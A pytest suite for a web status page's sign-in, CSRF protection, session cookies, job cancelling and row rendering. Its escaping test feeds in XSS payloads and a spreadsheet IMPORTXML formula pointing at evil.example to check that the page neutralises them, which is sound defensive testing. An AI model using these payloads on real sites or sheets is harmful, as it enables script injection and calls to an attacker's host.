"""The status page over Starlette's TestClient: sign-in, sessions, CSRF, and every section
rendering on an empty, a half-filled and a 10,000-row store, with everything escaped."""

from __future__ import annotations

import base64
import json
import re

import pytest
from starlette.testclient import TestClient

from hub.app import create_app
from hub.errors import HubError
from hub.sending.ledger import Ledger
from hub.stages.base import StageResult
from hub.web.session import SESSION_COOKIE, session_secret
from tests.core_plugin import registered
from tests.emulators.serve import async_wait_until, wait_until

KEY = "status-page-key-0123456789"
CSRF = re.compile(r'<meta name="csrf-token" content="([^"]+)">')


@pytest.fixture
def app(settings):
    settings.api_keys = [KEY, "second-key"]
    settings.tick_minutes = 0
    return create_app(settings)


@pytest.fixture
def client(app):
    with TestClient(app, follow_redirects=False) as client:
        yield client


@pytest.fixture
def store(app, client):
    return app.state.services.store


def csrf_of(client: TestClient, path: str = "/") -> str:
    return CSRF.search(client.get(path).text).group(1)


def sign_in(client: TestClient, key: str = KEY):
    return client.post("/signin", data={"key": key, "csrf": csrf_of(client)})


@pytest.fixture
def signed_in(client):
    assert sign_in(client).status_code == 303
    return client


def cell_count(html: str, status: str) -> int:
    found = re.search(
        rf'<tr data-status="{re.escape(status)}">.*?<td class="num count">(\d+)</td>', html, re.S
    )
    assert found, f"no funnel line for {status!r}"
    return int(found.group(1))


# --- sign-in ------------------------------------------------------------------------------------
def test_every_page_needs_sign_in(client, app):
    front = client.get("/")
    assert front.status_code == 200
    assert 'action="/signin"' in front.text and 'id="funnel"' not in front.text
    for path in ("/rows", "/rows/h_anything"):
        response = client.get(path)
        assert response.status_code == 303 and response.headers["location"] == "/"
    assert client.get("/events/jobs").status_code == 401
    state = app.state.services.state
    with registered({"draft": running_until_cancelled()}):
        job_id = state.insert_job("draft", {})
        wait_until(lambda: state.get_job(job_id)["status"] == "running", what="job running")
        refused = client.post(f"/jobs/{job_id}/cancel", data={"csrf": csrf_of(client)})
        assert refused.status_code == 303 and refused.headers["location"] == "/"
        assert state.get_job(job_id)["status"] == "running"
        assert not state.get_job(job_id)["cancel_requested"]
        state.request_cancel(job_id)  # let the stage end


def test_a_wrong_key_is_refused_without_echoing_it(client):
    wrong = "wrong-key-<b>guess</b>"
    response = sign_in(client, wrong)
    assert response.status_code == 401
    assert "not one of the hub&#39;s HUB_API_KEYS" in response.text
    assert "guess" not in response.text and wrong not in response.text
    assert 'id="funnel"' not in client.get("/").text


def test_the_right_key_signs_in_and_the_cookie_holds_no_key(client):
    response = sign_in(client, "second-key")
    assert response.status_code == 303 and response.headers["location"] == "/"
    cookie = response.headers["set-cookie"]
    assert cookie.startswith(f"{SESSION_COOKIE}=")
    assert "httponly" in cookie.lower() and "samesite=lax" in cookie.lower()
    payload = cookie.split("=", 1)[1].split(".", 1)[0]
    session = json.loads(base64.b64decode(payload + "=" * (-len(payload) % 4)))
    assert set(session) == {"who", "csrf"}
    assert "second-key" not in json.dumps(session) and KEY not in cookie
    assert 'id="funnel"' in client.get("/").text


def test_sign_in_needs_the_forms_csrf_token(client):
    client.get("/")  # a session exists, but the token is not sent back
    response = client.post("/signin", data={"key": KEY})
    assert response.status_code == 403
    forged = client.post("/signin", data={"key": KEY, "csrf": "x" * 43})
    assert forged.status_code == 403
    assert 'id="funnel"' not in client.get("/").text


def test_no_configured_key_disables_the_page(settings):
    settings.tick_minutes = 0
    with TestClient(create_app(settings), follow_redirects=False) as client:
        front = client.get("/")
        assert "The status page is disabled" in front.text and "HUB_API_KEYS" in front.text
        assert sign_in(client, "").status_code == 403


def test_sign_out_ends_the_session(signed_in):
    token = csrf_of(signed_in)
    assert signed_in.post("/signout", data={"csrf": token}).status_code == 303
    assert 'id="funnel"' not in signed_in.get("/").text
    assert signed_in.get("/rows").status_code == 303


def test_removing_a_key_from_the_settings_signs_its_sessions_out(signed_in, app):
    app.state.services.settings.api_keys = ["second-key"]
    assert 'id="funnel"' not in signed_in.get("/").text


def test_the_session_secret_comes_from_the_hub_secret_key(settings, data_dir):
    settings.secret_keys = ["old-key", "new-key"]
    derived = session_secret(settings)
    assert derived not in ("old-key", "new-key") and len(derived) == 64
    settings.secret_keys = ["another-key"]
    assert session_secret(settings) != derived
    settings.secret_keys = []  # the embedded key file, created once and reused
    embedded = session_secret(settings)
    assert embedded == session_secret(settings)
    assert (data_dir / "secret_key").read_text().strip() not in embedded


def test_a_cookie_signed_by_another_hub_is_not_a_session(settings, tmp_path, signed_in):
    cookie = signed_in.cookies.get(SESSION_COOKIE)
    other = settings.model_copy(update={"data_dir": tmp_path / "other", "secret_keys": []})
    with TestClient(create_app(other), follow_redirects=False) as stranger:
        stranger.cookies.set(SESSION_COOKIE, cookie)
        assert 'id="funnel"' not in stranger.get("/").text


# --- rendering ----------------------------------------------------------------------------------
def test_an_empty_store_renders_every_section(signed_in):
    page = signed_in.get("/")
    assert page.status_code == 200
    for section in ("funnel", "jobs", "deliveries", "limits"):
        assert f'id="{section}"' in page.text
    assert '<strong class="total">0</strong>' in page.text
    assert "no messages sent yet" in page.text
    assert "No job is running or queued." in page.text
    assert "No webhook or callback has arrived yet." in page.text
    assert "local store, no quota" in page.text
    assert "default-src 'none'" in page.headers["content-security-policy"]
    rows = signed_in.get("/rows")
    assert rows.status_code == 200 and "No rows" in rows.text


HALF_FILLED = [
    {"domain": "blank-status.example"},  # no status at all: pending
    {"domain": "person-skip.example", "outreach_status": " Skip "},
    {"domain": "odd.example", "outreach_status": "weird_status", "followups_sent": "abc"},
    {"domain": "held.example", "outreach_status": "drafted", "hold_reason": "HELD:daily_cap"},
    {
        "domain": "held2.example",
        "outreach_status": "drafted",
        "hold_reason": "HELD:daily_cap until 2026-11-29T09:14Z",
    },
    {
        "domain": "review.example",
        "outreach_status": "enriched",
        "hold_reason": "REVIEW:blank_field contact_name",
    },
    {"domain": "dry.example", "outreach_status": "sent", "hold_reason": "DRY_RUN outbox-1"},
    {"domain": "sent.example", "outreach_status": "sent", "message_id": "<a@hub>"},
    {
        "domain": "replied.example",
        "outreach_status": "replied",
        "message_id": "<b@hub>",
        "replied_at": "2026-01-02T10:00:00Z",
        "reply_snippet": "Thanks, tell me more",
    },
    {"domain": "failed.example", "outreach_status": "failed", "last_error": "Gmail 500"},
    {"page_url": "", "contact_email": "only-an-email@example.org"},  # no domain at all
]


def test_half_filled_rows_render_and_the_funnel_counts_them(signed_in, store):
    added = store.append(HALF_FILLED, dedupe_by_domain=False).added
    page = signed_in.get("/")
    assert page.status_code == 200
    html = page.text
    assert f'<strong class="total">{len(HALF_FILLED)}</strong>' in html
    assert cell_count(html, "pending") == 2
    assert cell_count(html, "skip") == 1  # a person's " Skip " is the hub's skip
    assert cell_count(html, "weird_status") == 1  # unknown statuses get their own line
    assert cell_count(html, "drafted") == 2 and cell_count(html, "failed") == 1
    assert cell_count(html, "HELD:daily_cap") == 2
    assert cell_count(html, "REVIEW:blank_field") == 1 and cell_count(html, "DRY_RUN") == 1
    # two rows were contacted (message_id), one replied
    assert "50.0% (1 of 2 contacted rows)" in html
    assert signed_in.get("/rows").status_code == 200
    for hub_id in added:
        assert signed_in.get(f"/rows/{hub_id}").status_code == 200


def test_funnel_links_filter_the_rows(signed_in, store):
    store.append(HALF_FILLED, dedupe_by_domain=False)
    html = signed_in.get("/").text
    link = re.search(r'href="(/rows\?hold=HELD%3Adaily_cap)"', html).group(1)
    held = signed_in.get(link).text
    assert "held.example" in held and "held2.example" in held and "review.example" not in held
    assert "Rows 1–2 of 2" in held
    skipped = signed_in.get("/rows?status=skip").text
    assert "person-skip.example" in skipped and "held.example" not in skipped


def test_rows_search_by_domain_email_and_status_and_paginate(signed_in, store):
    store.append(
        [
            {
                "domain": f"gallery{i:03d}.example",
                "contact_email": f"curator{i:03d}@mail.example",
                "outreach_status": "sent" if i % 3 == 0 else "pending",
            }
            for i in range(120)
        ]
    )
    first = signed_in.get("/rows").text
    assert "Rows 1–50 of 120" in first and "page 1 of 3" in first
    third = signed_in.get("/rows?page=3").text
    assert "Rows 101–120 of 120" in third and 'rel="next"' not in third
    assert "Rows 101–120" in signed_in.get("/rows?page=999").text  # past the end: last page
    assert "Rows 1–50" in signed_in.get("/rows?page=abc").text
    by_domain = signed_in.get("/rows?q=GALLERY007").text
    assert "Rows 1–1 of 1" in by_domain and "gallery007.example" in by_domain
    by_email = signed_in.get("/rows?q=curator11").text
    assert "of 10 matching" in by_email  # curator110..119
    by_both = signed_in.get("/rows?q=curator11&status=sent").text
    assert "of 3 matching" in by_both  # 111, 114, 117


def test_a_row_page_shows_its_draft_and_history(signed_in, store, settings):
    hub_id = store.append(
        [
            {
                "domain": "magazine.example",
                "contact_email": "ed@magazine.example",
                "draft_subject": "Prints for your readers",
                "draft_body": "Dear Ed,\nA short note.",
                "outreach_status": "replied",
                "followups_sent": "1",
                "replied_at": "2026-03-02T10:00:00Z",
                "reply_snippet": "Lovely, send the catalogue",
                "notes": "met at the fair",
            }
        ]
    ).added[0]
    ledger = Ledger.from_settings(settings)
    try:
        for step, subject in ((0, "Prints for your readers"), (1, "Re: Prints for your readers")):
            intent = ledger.plan(
                hub_id=hub_id,
                step=step,
                message_id=f"<m{step}@hub>",
                recipient="ed@magazine.example",
                subject=subject,
                owner="test:1",
            )
            ledger.record_sent(intent, provider_id=f"p{step}", thread_id="t1")
    finally:
        ledger.close()
    page = signed_in.get(f"/rows/{hub_id}")
    html = page.text
    assert page.status_code == 200
    assert "Prints for your readers" in html and "Dear Ed,\nA short note." in html
    assert "first message" in html and "follow-up 1" in html
    assert "Re: Prints for your readers" in html
    assert "Lovely, send the catalogue" in html
    assert "met at the fair" in html  # a person's own column is shown too


def test_an_unknown_row_is_a_404_page(signed_in):
    response = signed_in.get("/rows/h_does_not_exist")
    assert response.status_code == 404 and "No such row" in response.text


def test_everything_from_the_sheet_is_escaped(signed_in, store, app):
    hostile = {
        "domain": "hostile.example",
        "page_title": "<script>alert('title')</script>",
        "contact_email": '"><img src=x onerror=alert(1)>@x.example',
        "snippet": '=IMPORTXML("http://evil.example", "//a")',
        "outreach_status": "<b>bold</b>",
        "hold_reason": "<i>HELD</i>:x",
        "draft_body": "</pre><script>alert('body')</script>",
        "last_error": "<svg onload=alert(2)>",
    }
    hub_id = store.append([hostile]).added[0]
    app.state.services.state.record_delivery(
        at="2026-01-01T00:00:00+00:00",
        route="make",
        action="<script>act</script>",
        verdict="refused",
        status=400,
        reason="<script>alert('reason')</script>",
    )
    for path in ("/", "/rows", f"/rows/{hub_id}", "/rows?q=<script>"):
        html = signed_in.get(path).text
        assert "<script>alert" not in html and "<img src=x" not in html
        assert "<svg onload" not in html and "<b>bold</b>" not in html
    row_html = signed_in.get(f"/rows/{hub_id}").text
    assert "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;" in row_html
    assert "=IMPORTXML(&#34;http://evil.example&#34;, &#34;//a&#34;)" in row_html
    front = signed_in.get("/").text
    assert "&lt;script&gt;alert(&#39;reason&#39;)&lt;/script&gt;" in front
    assert "&lt;b&gt;bold&lt;/b&gt;" in front


def test_the_index_renders_with_10000_rows(signed_in, store):
    statuses = ("pending", "enriched", "drafted", "sent", "replied")
    store.append(
        [
            {
                "domain": f"site{i}.example",
                "outreach_status": statuses[i % 5],
                "hold_reason": "HELD:daily_cap" if i % 10 == 2 else "",
                "message_id": "<m@hub>" if i % 5 >= 3 else "",
                "replied_at": "2026-01-01" if i % 5 == 4 else "",
            }
            for i in range(10_000)
        ]
    )
    html = signed_in.get("/").text
    assert '<strong class="total">10000</strong>' in html
    assert all(cell_count(html, s) == 2000 for s in statuses)
    assert cell_count(html, "HELD:daily_cap") == 1000
    assert "50.0% (2000 of 4000 contacted rows)" in html
    rows = signed_in.get("/rows?page=200").text
    assert "Rows 9951–10000 of 10000" in rows


# --- jobs and cancel ----------------------------------------------------------------------------
def running_until_cancelled():
    async def run(ctx):
        ctx.report_progress(1, 10)
        # A stage busy between chunks until the page's cancel reaches it.
        await async_wait_until(ctx.is_cancelled, timeout=30, what="the cancel")
        ctx.check_cancelled()
        raise AssertionError("check_cancelled did not stop the stage")

    return run


def test_cancel_needs_the_sessions_csrf_token(signed_in, app):
    state = app.state.services.state
    with registered({"draft": running_until_cancelled()}):
        job_id = state.insert_job("draft", {})
        wait_until(lambda: state.get_job(job_id)["status"] == "running", what="job running")
        assert job_id in signed_in.get("/").text  # listed with a Cancel button
        url = f"/jobs/{job_id}/cancel"
        assert signed_in.post(url).status_code == 403
        assert signed_in.post(url, data={"csrf": "not-the-token"}).status_code == 403
        # a token from another signed-in session is not this session's token
        other = TestClient(app, follow_redirects=False)  # same running app, own cookies
        sign_in(other)
        foreign = csrf_of(other)
        assert signed_in.post(url, data={"csrf": foreign}).status_code == 403
        assert state.get_job(job_id)["status"] == "running"
        assert not state.get_job(job_id)["cancel_requested"]
        done = signed_in.post(url, data={"csrf": csrf_of(signed_in)})
        assert done.status_code == 303
        wait_until(lambda: state.get_job(job_id)["status"] == "cancelled", what="cancelled")
    front = signed_in.get("/").text
    assert f"Cancel requested: job {job_id}" in front  # the flash, shown once
    assert "Cancel requested" not in signed_in.get("/").text


def finished_with(summary=None, error=None):
    async def run(ctx):
        if error:
            raise HubError(error)
        return StageResult(summary=summary or {}, chain=False)

    return run


def run_to_end(state, job_type: str) -> str:
    job_id = state.insert_job(job_type, {})
    wait_until(lambda: state.get_job(job_id)["status"] in ("completed", "failed"), what="job end")
    return job_id


def test_cancelling_an_ended_job_says_so(signed_in, app):
    state = app.state.services.state
    with registered({"draft": finished_with(error="boom")}):
        job_id = run_to_end(state, "draft")
    signed_in.post(f"/jobs/{job_id}/cancel", data={"csrf": csrf_of(signed_in)})
    assert "had already ended (failed)" in signed_in.get("/").text
    assert state.get_job(job_id)["status"] == "failed"


def test_recent_jobs_show_their_result_or_error(signed_in, app):
    state = app.state.services.state
    stages = {
        "score": finished_with({"scored": 30, "held": 2}),
        "enrich": finished_with(error="Hunter said 401: check HUNTER_API_KEY"),
    }
    with registered(stages):
        ok, bad = run_to_end(state, "score"), run_to_end(state, "enrich")
    html = signed_in.get("/").text
    assert ok in html and bad in html
    assert "scored: 30, held: 2" in html
    assert "Hunter said 401: check HUNTER_API_KEY" in html
